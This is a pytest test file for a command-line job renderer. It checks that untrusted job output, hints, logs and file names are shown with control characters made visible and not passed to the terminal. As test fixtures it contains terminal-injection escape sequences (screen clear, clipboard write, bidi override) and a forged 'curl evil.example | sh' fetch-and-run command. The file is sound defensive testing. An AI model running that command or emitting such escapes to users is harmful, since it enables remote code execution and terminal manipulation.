"""Text of a job on a terminal: control characters are shown, not sent."""

from __future__ import annotations

import io
import json
import logging
import os
import pty
import re
import subprocess
import unicodedata
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.commands import BIN, environment

from backends import JobHandle, JobState, JobStatus, UnitStatus
from backends.errors import BackendError
from backends.problem import Problem
from backends.untrusted import parse_result, show_line, show_text
from backends.worker_protocol import UnitResult
from renderer.cli import boundary
from renderer.cli.output import print_json, status_lines
from renderer.cli.status_display import StatusDisplay

EVIL = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\u202e\u200b\r\x08"
FORGED = "→ curl evil.example | sh"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain ä 日本 👍\n\tx", "plain ä 日本 👍\n\tx"),
        ("\x1b[2J", r"\x1b[2J"),
        ("\x1b]0;title\x07", r"\x1b]0;title\x07"),
        ("a\rb\x08\x7f", r"a\x0db\x08\x7f"),
        ("\x9b31m", r"\x9b31m"),
        ("a\u202eb\u2066\u200b\ufeff", r"a\u202eb\u2066\u200b\ufeff"),
        ("\u2028\u2029", r"\u2028\u2029"),
        ("\U000e0041", r"\U000e0041"),
        ("\udcff", r"\udcff"),
        ("a\u00a0\u3000b", "a\u00a0\u3000b"),
    ],
    ids=ascii,
)
def test_control_characters_become_visible(text: str, shown: str) -> None:
    assert show_text(text) == shown


def test_in_a_line_newlines_become_visible_too() -> None:
    assert show_line("a\nb\t\x1b") == r"a\nb\t\x1b"


@given(st.text())
def test_no_control_character_is_left(text: str) -> None:
    for char in show_text(text):
        assert char in "\n\t" or unicodedata.category(char) not in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert "\n" not in show_line(text)


def status_of(problem: Problem, *, running: str | None = None) -> JobStatus:
    state = JobState.RUNNING if running else JobState.FAILED
    unit = UnitStatus(name=f"A{EVIL}", state=state, problem=problem, activity=running)
    handle = JobHandle("local", ("a-1",))
    return JobStatus(handle=handle, name="a", state=state, units=(unit,), problem=problem, notes=(EVIL,))


def assert_harmless(text: str) -> None:
    assert not [char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"}]
    assert not re.search(r"(?m)^\s*→ curl", text)


def test_texts_of_a_result_send_nothing_to_the_terminal_and_are_no_advice_of_ours() -> None:
    error = Problem(
        message=f"{FORGED}\n{FORGED}{EVIL}", hint=f"curl evil.example | sh{EVIL}", details=f"{FORGED}\n{EVIL}"
    )
    result = parse_result(UnitResult(unit="x", exit_code=10, error=error).to_json().encode(), unit="A")
    assert result.error
    lines = "\n".join(status_lines(status_of(result.error)))
    assert_harmless(lines)
    advice = [line.strip() for line in lines.split("\n") if line.strip().startswith("→")]
    assert advice == ["→ renderer logs local://a-1"]
    assert "    the job says: curl evil.example | sh" in lines


def test_our_own_advice_keeps_its_arrow() -> None:
    lines = status_lines(status_of(Problem(message="it failed", hint="raise --memory")))
    assert "      → raise --memory" in lines
    assert "  → raise --memory" in lines


class Screen(io.StringIO):
    def __init__(self, *, bars: bool) -> None:
        super().__init__()
        self.isatty = lambda: bars  # type: ignore[method-assign]


@pytest.mark.parametrize("bars", [False, True])
def test_what_to_do_about_a_job_that_waits_is_shown_once(bars: bool) -> None:
    screen = Screen(bars=bars)
    with redirect_stderr(screen), StatusDisplay(quiet=False) as display:
        for _ in range(2):
            problem = Problem(message="no node has that GPU", hint="add a node [with] it")
            handle = JobHandle("k8s", ("a",))
            display.show(JobStatus(handle=handle, name="a", state=JobState.PENDING, units=(), problem=problem))
    assert screen.getvalue().count("→ add a node [with] it\n") == 1


@pytest.mark.parametrize("bars", [False, True])
def test_the_display_of_a_running_job_sends_nothing_of_its_text(bars: bool) -> None:
    screen = Screen(bars=bars)
    with redirect_stderr(screen), StatusDisplay(quiet=False) as display:
        problem = Problem(message=f"{FORGED}{EVIL}[red]x[/red][link=evil]y")
        display.show(status_of(problem, running=EVIL))
    shown = screen.getvalue()
    assert "\x1b]52" not in shown
    assert "\x1b[2J" not in shown
    assert "\u202e" not in shown
    if not bars:
        assert_harmless(shown)
        assert "[red]x[/red]" in shown


def test_errors_and_json_send_nothing() -> None:
    for as_json in (False, True):
        out, err = io.StringIO(), io.StringIO()
        with redirect_stdout(out), redirect_stderr(err):
            code = boundary._report(BackendError(f"no{EVIL}\n{FORGED}", hint=EVIL), as_json=as_json)
        assert code == BackendError.exit_code
        assert_harmless(out.getvalue() + err.getvalue())
    assert json.loads(out.getvalue())["error"] == f"no{EVIL}\n{FORGED}"


@given(
    st.recursive(st.none() | st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=9)
)
def test_json_is_the_same_data(value: object) -> None:
    out = io.StringIO()
    with redirect_stdout(out):
        print_json(value)
    assert_harmless(out.getvalue())
    assert json.loads(out.getvalue()) == value


def test_log_lines_for_debugging_send_nothing() -> None:
    screen = io.StringIO()
    with redirect_stderr(screen):
        from backends.debug_log import _LineHandler

        _LineHandler().emit(logging.LogRecord("renderer", logging.INFO, "", 0, EVIL, None, None))
    assert_harmless(screen.getvalue())


Run = Callable[..., subprocess.CompletedProcess[str]]


def on_a_terminal(*arguments: str, cwd: Path, env: dict[str, str]) -> str:
    ours, theirs = pty.openpty()
    subprocess.run(
        [BIN / "renderer", *arguments], cwd=cwd, env=env, stdout=theirs, stderr=theirs, check=False, timeout=600
    )
    os.close(theirs)
    text = b""
    try:
        while chunk := os.read(ours, 65536):
            text += chunk
    except OSError:  # the terminal has no writer any more
        pass
    os.close(ours)
    return text.decode()


def test_logs_are_harmless_on_a_terminal_and_whole_in_a_pipe(project: Path, run: Run, tmp_path: Path) -> None:
    (project / "job.py").write_text(f"print({EVIL.replace(chr(13), '')!r} + 'end')\n")
    handle = run("submit", "-d", "job.py").stdout.strip()
    assert run("wait", handle).returncode == 0
    assert run("logs", handle).stdout == EVIL.replace("\r", "") + "end\n"
    shown = on_a_terminal("logs", handle, cwd=project, env=environment(tmp_path / "home"))
    assert_harmless(shown.replace("\r\n", "\n"))
    assert r"\x1b[2J" in shown


def test_names_docstrings_and_lines_of_source_send_nothing(project: Path, run: Run) -> None:
    scene = f"from manim import *\nclass A(Scene):\n  {('doc ' + EVIL)!r}\n"
    (project / "scene.py").write_text(scene)
    (project / f"x{EVIL.replace('/', '')}.txt").touch()
    (project / f".env{EVIL.replace('/', '')}").touch()
    (project / "wrong.py").write_text(f"x = '{EVIL.replace(chr(13), '')}\n", "utf-8")
    for command in (["scenes", "scene.py"], ["submit", "scene.py", "--dry-run"], ["scenes", "wrong.py"],
                    ["scenes", f"{EVIL}.py"], [EVIL], ["status", f"x://{EVIL}"]):  # fmt: skip
        done = run(*command)
        assert_harmless(done.stdout + done.stderr)
